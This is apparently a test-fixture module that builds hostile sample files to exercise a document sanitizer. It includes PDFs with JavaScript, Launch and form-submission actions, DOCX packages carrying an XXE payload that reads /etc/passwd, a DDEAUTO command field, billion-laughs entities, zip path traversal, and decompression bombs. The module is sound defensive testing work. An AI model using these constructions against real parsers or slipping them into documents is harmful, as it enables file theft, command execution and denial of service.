"""Files made by hand, good and hostile."""

import io
import random
import struct
import zipfile
import zlib
from collections.abc import Callable, Mapping

import openpyxl
import pikepdf
from pikepdf import Array, Dictionary, Name, String
from PIL import Image

EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}" + b"$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"

CONTENT_TYPES = """<?xml version="1.0" encoding="UTF-8"?>
<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">
<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>
<Default Extension="xml" ContentType="application/xml"/>
<Override PartName="/word/document.xml"
 ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>
</Types>"""
RELATIONS = """<?xml version="1.0"?>
<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">
<Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument"
 Target="word/document.xml"/></Relationships>"""
BODY = '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>{}</w:body></w:document>'
PARAGRAPH = "<w:p><w:r><w:t>演示材料</w:t></w:r></w:p>"


def image(kind: str = "PNG", size: tuple[int, int] = (60, 40), mode: str = "RGB", **options: object) -> bytes:
    out = io.BytesIO()
    Image.new(mode, size, 100 if mode in {"L", "P"} else None or 0).save(out, kind, **options)
    return out.getvalue()


def pdf(change: Callable[[pikepdf.Pdf], None] | None = None, **options: object) -> bytes:
    with pikepdf.new() as document:
        document.add_blank_page()
        if change is not None:
            change(document)
        out = io.BytesIO()
        document.save(out, **options)  # type: ignore[arg-type]
    return out.getvalue()


def flat(data: bytes) -> bytes:
    """Every object of a PDF in clear, to look for words in it."""
    with pikepdf.open(io.BytesIO(data)) as document:
        out = io.BytesIO()
        document.save(
            out,
            qdf=True,
            compress_streams=False,
            stream_decode_level=pikepdf.StreamDecodeLevel.generalized,
            object_stream_mode=pikepdf.ObjectStreamMode.disable,
        )
    return out.getvalue()


def _script() -> Dictionary:
    return Dictionary(Type=Name.Action, S=Name.JavaScript, JS=String("EVIL()"))


def _annotation(document: pikepdf.Pdf, **entries: object) -> None:
    annotation = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 10, 10]), **entries)
    document.pages[0].Annots = Array([document.make_indirect(annotation)])


def _open_script(document: pikepdf.Pdf) -> None:
    document.Root.OpenAction = document.make_indirect(_script())


def _nested_script(document: pikepdf.Pdf) -> None:
    document.Root.OpenAction = Dictionary(S=Name.GoTo, D=Array([document.pages[0].obj, Name.Fit]), Next=_script())


def _untyped_script_stream(document: pikepdf.Pdf) -> None:
    code = document.make_stream(b"EVIL()")
    _annotation(document, A=Dictionary(S=Name.JavaScript, JS=code))


def _mistyped_script(document: pikepdf.Pdf) -> None:
    _annotation(document, A=Dictionary(Type=Name("/Harmless"), S=Name.JavaScript, JS=String("EVIL()")))


def _named_script(document: pikepdf.Pdf) -> None:
    document.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("x"), _script()])))


def _page_trigger(document: pikepdf.Pdf) -> None:
    document.pages[0].obj.AA = Dictionary(O=Dictionary(S=Name.Launch, F=String("EVIL.exe")))


def _launch(document: pikepdf.Pdf) -> None:
    _annotation(document, A=Dictionary(Type=Name.Action, S=Name.Launch, Win=Dictionary(F=String("EVIL.exe"))))


def _submit(document: pikepdf.Pdf) -> None:
    _annotation(document, A=Dictionary(S=Name.SubmitForm, F=String("http://EVIL.example")))


def _remote(document: pikepdf.Pdf) -> None:
    _annotation(document, A=Dictionary(S=Name.GoToR, F=String("\\\\EVIL\\share\\x.pdf")))


def _script_link(document: pikepdf.Pdf) -> None:
    _annotation(document, A=Dictionary(S=Name.URI, URI=String("javascript:EVIL()")))


def _file_link(document: pikepdf.Pdf) -> None:
    _annotation(document, A=Dictionary(S=Name.URI, URI=String(" FILE:///EVIL")))


def _attachment(document: pikepdf.Pdf) -> None:
    document.attachments["EVIL.exe"] = b"EVIL"


def _attachment_annotation(document: pikepdf.Pdf) -> None:
    stream = document.make_stream(b"EVIL")
    file = Dictionary(Type=Name.Filespec, F=String("x"), EF=Dictionary(F=stream))
    annotation = Dictionary(Type=Name.Annot, Subtype=Name.FileAttachment, Rect=Array([0, 0, 9, 9]), FS=file)
    document.pages[0].Annots = Array([annotation])


def _xfa(document: pikepdf.Pdf) -> None:
    document.Root.AcroForm = Dictionary(Fields=Array([]), XFA=document.make_stream(b"<xdp>EVIL</xdp>"))


def _field_trigger(document: pikepdf.Pdf) -> None:
    field = Dictionary(FT=Name.Tx, T=String("x"), AA=Dictionary(K=_script()))
    document.Root.AcroForm = Dictionary(Fields=Array([document.make_indirect(field)]))


def _outline(document: pikepdf.Pdf) -> None:
    item = document.make_indirect(Dictionary(Title=String("x"), A=_script()))
    document.Root.Outlines = document.make_indirect(Dictionary(Type=Name.Outlines, First=item, Last=item, Count=1))


def _rich_media(document: pikepdf.Pdf) -> None:
    _annotation(document, RichMediaContent=Dictionary(X=String("EVIL")))
    document.pages[0].Annots[0].Subtype = Name.RichMedia


ACTIVE_PDFS: Mapping[str, Callable[[pikepdf.Pdf], None]] = {
    "open script": _open_script,
    "script behind a harmless action": _nested_script,
    "script stream without type": _untyped_script_stream,
    "script with a wrong type": _mistyped_script,
    "named script": _named_script,
    "page trigger": _page_trigger,
    "launch": _launch,
    "form submission": _submit,
    "remote document": _remote,
    "script link": _script_link,
    "file link": _file_link,
    "attachment": _attachment,
    "attachment annotation": _attachment_annotation,
    "XFA": _xfa,
    "field trigger": _field_trigger,
    "outline": _outline,
    "rich media": _rich_media,
}


def xlsx() -> bytes:
    book = openpyxl.Workbook()
    book.active["A1"] = "演示"
    book.active["A2"].hyperlink = "https://example.com/"
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def package(parts: Mapping[str, str | bytes] | None = None, *, method: int = zipfile.ZIP_DEFLATED) -> bytes:
    """A small DOCX; ``parts`` are added, or replace those of the same name (None as text: left out)."""
    content: dict[str, str | bytes] = {
        "[Content_Types].xml": CONTENT_TYPES,
        "_rels/.rels": RELATIONS,
        "word/document.xml": BODY.format(PARAGRAPH),
        **(parts or {}),
    }
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as archive:
        for name, data in content.items():
            archive.writestr(name, data)
    return out.getvalue()


def relation(kind: str, target: str, mode: str = "External") -> str:
    base = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
    return (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="r9" Type="{base}{kind}" Target="{target}" TargetMode="{mode}"/></Relationships>'
    )


def body(inner: str) -> dict[str, str | bytes]:
    return {"word/document.xml": BODY.format(inner)}


_FIELD = '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>{}<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
_RUN = "<w:r><w:instrText>{}</w:instrText></w:r>"
_MACRO_TYPES = CONTENT_TYPES.replace("document.main+xml", "document.macroEnabled.main+xml").replace(
    "openxmlformats-officedocument.wordprocessingml", "ms-word"
)
_LAUGHS = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;">]><x>&b;</x>'
_XXE = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'

_LONG = random.Random(1).randbytes(2_500_000).hex().encode()  # packs badly: no bomb by its ratio
HOSTILE_PACKAGES: Mapping[str, tuple[Mapping[str, str | bytes], str]] = {
    "endless attribute": ({"word/document.xml": b'<a b="' + _LONG}, "异常"),
    "endless comment": ({"word/document.xml": b"<a><!--" + _LONG}, "异常"),
    "endless nothing": ({"word/document.xml": _LONG}, "异常"),
    "macro project": ({"word/vbaProject.bin": b"x"}, "宏"),
    "macro content type": ({"[Content_Types].xml": _MACRO_TYPES}, "宏"),
    "ActiveX": ({"word/activeX/activeX1.xml": "<x/>"}, "宏"),
    "macro sheet": ({"xl/macrosheets/sheet1.xml": "<x/>"}, "宏"),
    "embedded object": ({"word/embeddings/oleObject1.bin": b"x"}, "内嵌"),
    "embedded program": ({"word/media/x.exe": b"MZ"}, "内嵌"),
    "HTML chunk": ({"word/afchunk.mht": b"x"}, "内嵌"),
    "external workbook": ({"xl/externalLinks/externalLink1.xml": "<x/>"}, "外部"),
    "external template": (
        {"word/_rels/settings.xml.rels": relation("attachedTemplate", "https://example.com/x.dotm")}, "外部",
    ),
    "external picture": ({"word/_rels/document.xml.rels": relation("image", "http://example.com/x.png")}, "外部"),
    "link to a file": ({"word/_rels/document.xml.rels": relation("hyperlink", "file:///C:/x.exe")}, "外部"),
    "link to a share": ({"word/_rels/document.xml.rels": relation("hyperlink", "\\\\host\\x")}, "外部"),
    "script link": ({"word/_rels/document.xml.rels": relation("hyperlink", "javascript:x()")}, "外部"),
    "inner relation out": ({"word/_rels/document.xml.rels": relation("image", "http://x/y", "Internal")}, "外部"),
    "entities": ({"word/document.xml": _LAUGHS}, "结构异常"),
    "external entity": ({"word/document.xml": _XXE}, "结构异常"),
    "entity in UTF-16": ({"word/document.xml": _XXE.encode("utf-16")}, "结构异常"),
    "entity in relations": ({"_rels/.rels": _XXE}, "结构异常"),
    "entity in a drawing": ({"word/drawings/vml.vml": _XXE}, "结构异常"),
    "endless nesting": ({"word/document.xml": "<a>" * 5000 + "</a>" * 5000}, "结构异常"),
    "broken XML": ({"word/document.xml": "<a><b></a>"}, "损坏"),
    "DDE": (body(_FIELD.format(_RUN.format('DDEAUTO c:\\x "/k calc"'))), "外部"),
    "DDE in pieces": (body(_FIELD.format(_RUN.format(" D") + _RUN.format("D") + _RUN.format("EAUTO x"))), "外部"),
    "DDE in a simple field": (body('<w:fldSimple w:instr=" DDE x y"/>'), "外部"),
    "included picture": (body(_FIELD.format(_RUN.format('INCLUDEPICTURE "http://x"'))), "外部"),
    "path upwards": ({"../x.xml": "<x/>"}, "结构异常"),
    "path upwards inside": ({"word/../../x.xml": "<x/>"}, "结构异常"),
    "absolute path": ({"/etc/x.xml": "<x/>"}, "结构异常"),
    "backslash": ({"word\\..\\x.xml": "<x/>"}, "结构异常"),
    "drive": ({"C:x.xml": "<x/>"}, "结构异常"),
    "twice the same": ({"WORD/Document.xml": "<x/>"}, "结构异常"),
    "high ratio": ({"word/media/x.bin": b"\0" * (20 * 1024 * 1024)}, "过大"),
    "high ratio in XML": ({"word/x.xml": "<x>" + " " * (20 * 1024 * 1024) + "</x>"}, "过大"),
    "no main part": ({"[Content_Types].xml": "<Types/>"}, "压缩包"),
}  # fmt: skip


def lying_png(width: int, height: int) -> bytes:
    """A PNG whose header promises that many pixels."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return len(data).to_bytes(4) + kind + data + zlib.crc32(kind + data).to_bytes(4)

    header = width.to_bytes(4) + height.to_bytes(4) + bytes([8, 2, 0, 0, 0])
    pixels = zlib.compress(b"\0" * 100_000)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", pixels) + chunk(b"IEND", b"")


def object_stream_bomb(size: int) -> bytes:
    """A PDF whose catalogue names an object that lies in an object stream of ``size`` bytes, packed very small."""
    packer = zlib.compressobj(9)
    packed = packer.compress(b"7 0 <</A 1>> ")
    for _ in range(size // 1024**2):
        packed += packer.compress(b" " * 1024**2)
    packed += packer.flush()
    objects = {
        1: b"<</Type/Catalog/Pages 2 0 R/X 7 0 R>>",
        2: b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        3: b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>",
        5: b"<</Type/ObjStm/N 1/First 4/Length %d/Filter/FlateDecode>>\nstream\n%s\nendstream" % (len(packed), packed),
    }
    document, places = b"%PDF-1.5\n", {}
    for number, text in objects.items():
        places[number] = len(document)
        document += b"%d 0 obj\n%s\nendobj\n" % (number, text)
    places[8] = len(document)
    rows = b"".join(
        struct.pack(">BIH", 2, 5, 0) if number == 7 else struct.pack(">BIH", number in places, places.get(number, 0), 0)
        for number in range(9)
    )
    document += b"8 0 obj\n<</Type/XRef/Size 9/W[1 4 2]/Root 1 0 R/Length %d>>\nstream\n" % len(rows)
    return document + rows + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % places[8]
